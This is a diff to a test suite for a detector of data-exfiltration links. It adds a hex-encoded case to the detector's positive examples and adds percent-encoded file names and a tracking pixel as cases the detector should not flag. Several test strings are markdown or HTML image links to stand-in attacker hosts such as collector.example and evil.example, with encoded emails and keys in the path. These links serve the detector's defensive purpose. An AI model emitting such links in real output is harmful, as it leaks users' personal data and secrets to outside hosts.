@@ -525,6 +525,7 @@ describe('exfiltration_link', () => {
       // data in the path, base64 (standard or URL alphabet) of a record or of prose
       `![a](https://collector.example/c/${Buffer.from('user=alice@example.com&key=sk-123').toString('base64url')}.png)`,
       `<img src="https://evil.example/${Buffer.from('email: bob@example.com, phone 0912345678').toString('base64')}/p.gif">`,
+      `![a](https://collector.example/c/${Buffer.from('user=alice@example.com&key=sk-123').toString('hex')}.png)`,
     ];
     for (const text of texts) assert.ok(found(text, 'exfiltration_link').length > 0, text);
   });
@@ -538,6 +539,10 @@ describe('exfiltration_link', () => {
       // opaque ids and hashes in CDN paths
       '![photo](https://res.cdn.example/image/upload/v1712345678/AbCdEf123GhIjKl456MnOpQr789.jpg)',
       '![x](https://cdn.example/assets/9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08.png)',
+      // percent-encoded file names read as prose, compact JSON is what tracking ids carry
+      '![shot](https://files.example.com/uploads/Screen%20Shot%202024-05-01%20at%2010.15.32%20AM.png)',
+      '[Annual report](https://files.example.com/docs/Annual%20Report%20for%20the%20Board.pdf)',
+      `![p](https://px.example/o/${Buffer.from('{"event":"open","token":"abc","user":"x"}').toString('base64url')}.gif)`,
     ];
     for (const text of texts) assert.deepEqual(found(text, 'exfiltration_link'), [], text);
   });
